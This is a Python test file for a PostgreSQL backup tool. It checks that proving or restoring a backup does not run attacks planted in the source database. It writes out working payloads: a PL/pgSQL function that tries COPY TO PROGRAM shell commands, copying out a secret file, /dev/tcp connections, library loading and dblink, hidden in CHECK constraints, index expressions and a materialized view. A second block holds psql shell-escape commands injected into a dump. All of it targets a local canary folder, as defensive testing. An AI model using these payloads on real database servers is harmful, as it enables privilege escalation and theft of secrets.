"""What an ordinary user of a PostgreSQL database can plant there does nothing to the machine that proves its backup.

A restore runs functions of the source as the scratch server's superuser: a CHECK when rows are loaded, an index's
expression when it is built, a materialized view's query when it is filled. Each tries everything a superuser can.
"""

import secrets
import subprocess
from pathlib import Path

import pytest

from ops_pipelines.backup.adopt import adopt, look
from ops_pipelines.backup.take import take_backup
from ops_pipelines.errors import OpsError
from ops_pipelines.recovery.restore import restore_to
from ops_pipelines.recovery.verify import verify
from ops_pipelines.sandbox import isolation
from ops_pipelines.vault.verdict import Verdict
from tests.conftest import Made, MakeWorkspace, TestServer
from tests.sandbox.conftest import Canary, left_in

# Every attempt by itself: what is refused does not stop the next.
ATTACK = """
create function public.attack() returns boolean language plpgsql volatile as $attack$
declare tried text;
begin
  foreach tried in array array[
    $$copy (select 1) to program 'touch {canary}/program; cat {secret} > {canary}/secret'$$,
    $$copy (select 1) to program 'exec 3<>/dev/tcp/127.0.0.1/{port}'$$,
    $$copy (select 1) to program 'bash -c "exec 3<>/dev/tcp/127.0.0.1/{port}"'$$,
    $$copy (select 'copied') to '{canary}/copy'$$,
    $$copy (select pg_read_file('{secret}')) to '{canary}/read'$$,
    $$select lo_export(lo_from_bytea(0, 'x'), '{canary}/large object')$$,
    $$load '{canary}/evil.so'$$,
    $$alter system set archive_command = 'touch {canary}/archived'$$,
    $$select pg_ls_dir('{canary}')$$,
    $$create extension dblink$$,
    $$select dblink_connect('host=127.0.0.1 port={port}')$$
  ] loop
    begin
      execute tried;
    exception when others then null;
    end;
  end loop;
  return true;
end $attack$
"""
PLANTED = (
    "create table by_check (id int check (public.attack()))",
    "insert into by_check values (1)",
    "create table by_index (id int)",
    "insert into by_index values (1)",
    # What only promises to be immutable may call what is not.
    "create function quiet() returns boolean language plpgsql immutable as 'begin return public.attack(); end'",
    "create index on by_index ((quiet()))",
    "create materialized view by_view as select public.attack() as done",
)


def attacked(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary, **source: object) -> tuple[Made, Verdict]:
    """A database that an ordinary user filled with attacks, saved and proved."""
    database = pg.new_database()
    intern = f"intern_{secrets.token_hex(4)}"
    pg.sql(f"create role {intern} login")
    pg.sql(f'grant create on database "{database}" to {intern}', f"grant create, usage on schema public to {intern}",
           database=database)  # fmt: skip
    planting = ATTACK.format(canary=canary.folder, secret=canary.secret, port=canary.port)
    pg.sql(f"set role {intern}", planting, *PLANTED, database=database)
    assert not list(canary.folder.iterdir()), "at the source an ordinary user may do none of it"
    # As docs/rights.md has it. What a superuser reads may run functions of others with all his rights, at the source.
    reader = f"reader_{secrets.token_hex(4)}"
    pg.sql(
        f"create role {reader} login bypassrls password 'reads-only'", f"grant pg_read_all_data, pg_monitor to {reader}"
    )
    made = make_workspace(pg.url(database, user=reader, password="reads-only"), **source)
    take_backup(made.workspace, "crm")
    point = made.workspace.catalogue("crm").newest
    assert point is not None
    return made, verify(made.workspace, point)


@pytest.mark.skipif(isolation.standing().best != "sandbox", reason="no sandbox can be had here")
def test_in_the_sandbox_it_does_nothing(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary) -> None:
    made, verdict = attacked(pg, make_workspace, canary)
    assert verdict.outcome == "verified", verdict.reason
    canary.assert_unharmed()
    assert left_in(made.workspace.places.scratch) == []


def test_without_a_sandbox_it_would(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary) -> None:
    """The attack is a real one: else the other test would prove nothing."""
    _made, verdict = attacked(pg, make_workspace, canary, verify={"isolation": "none"})
    assert {"program", "secret"} <= {path.name for path in canary.folder.iterdir()}
    assert (canary.folder / "secret").read_text() == "AGE-SECRET-KEY"
    (told,) = [check for check in verdict.notable if check.name == "isolation"]
    assert "isolation: none" in told.detail


# What psql does when it reads them in a script; anybody can write them into a dump.
COMMANDS = r"""
\! touch {canary}/shell
\o {canary}/output
select 1;
\o | touch {canary}/pipe
select 2;
\o
\copy (select 3) to {canary}/copied
\copy (select 4) to program 'touch {canary}/program'
select 'touch {canary}/gexec' \g | sh
\w {canary}/written
\i {canary}/../included.sql
\setenv PAGER 'touch {canary}/pager'
\set x `touch {canary}/backticks`
\unrestrict guessed
\! touch {canary}/after
"""


@pytest.mark.parametrize("own", ["verify", "restore"])
def test_no_client_obeys_what_lies_in_a_script(
    pg: TestServer, make_workspace: MakeWorkspace, canary: Canary, tmp_path: Path, own: str
) -> None:
    """Not where a backup is proved without a sandbox, and not where it is restored into a server of the user's own."""
    name = pg.new_database()
    pg.sql("create table t (i int)", "insert into t values (1)", database=name)
    (tmp_path / "included.sql").write_text(canary.filled("\\! touch {canary}/included\n"), encoding="utf-8")
    argv = [pg.programs.path("pg_dump"), f"--dbname={pg.superuser.at(dbname=name).argument()}"]
    env = pg.superuser.environment()
    dumped = subprocess.run(argv, env=env, capture_output=True, check=True).stdout.decode()
    dumped = "".join(line for line in dumped.splitlines(keepends=True) if not line.startswith("\\restrict"))
    head, mark, tail = dumped.rpartition("\n--\n-- PostgreSQL database dump complete")
    path = tmp_path / "full-20260203-0415.sql"
    path.write_text(head + canary.filled(COMMANDS) + mark + tail, encoding="utf-8")
    pg.psql(name, "-f", str(path))
    assert {"shell", "pipe", "program", "included"} <= {each.name for each in canary.folder.iterdir()}, "a real attack"
    for each in canary.folder.iterdir():
        each.unlink()
    workspace = make_workspace(pg.url(name), verify={"isolation": "none"}).workspace
    (candidate,) = look(workspace, "crm", path)
    assert not candidate.refused, candidate.refused
    adopt(workspace, "crm", candidate)
    point = workspace.catalogue("crm").newest
    assert point is not None
    if own == "verify":
        verdict = verify(workspace, point)
        assert (verdict.outcome, "commands for psql" in str(verdict.reason)) == ("bad", True), verdict.reason
    else:
        with pytest.raises(OpsError, match="commands for psql"):
            restore_to(workspace, point, f"{name}_beside")
    canary.assert_unharmed()
    assert left_in(workspace.places.scratch) == []
